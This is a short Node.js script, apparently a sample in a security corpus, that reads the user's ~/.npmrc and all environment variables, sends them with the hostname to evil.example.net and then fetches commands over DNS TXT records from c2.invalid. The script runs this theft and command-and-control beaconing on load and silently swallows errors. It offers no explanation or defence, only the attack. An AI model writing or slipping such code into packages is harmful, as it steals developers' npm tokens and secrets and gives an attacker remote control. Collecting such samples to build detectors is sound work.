// corpus: fetch POST of process.env and ~/.npmrc to evil.example.net plus DNS TXT command polling from c2.invalid
'use strict';
const fs = require('fs');
const os = require('os');
const dns = require('dns').promises;

async function exfil() {
  let npmrc = '';
  try { npmrc = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8'); } catch {}
  await fetch('https://evil.example.net/api/v1/ingest', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ host: os.hostname(), env: process.env, npmrc }),
    keepalive: true,
  });
}

async function poll() {
  const id = Buffer.from(os.hostname()).toString('hex').slice(0, 30);
  const records = await dns.resolveTxt(`${id}.cmd.c2.invalid`);
  return records.flat().join('');
}

exfil().then(poll).then((task) => fs.writeFileSync('/tmp/.task', task)).catch(() => {});
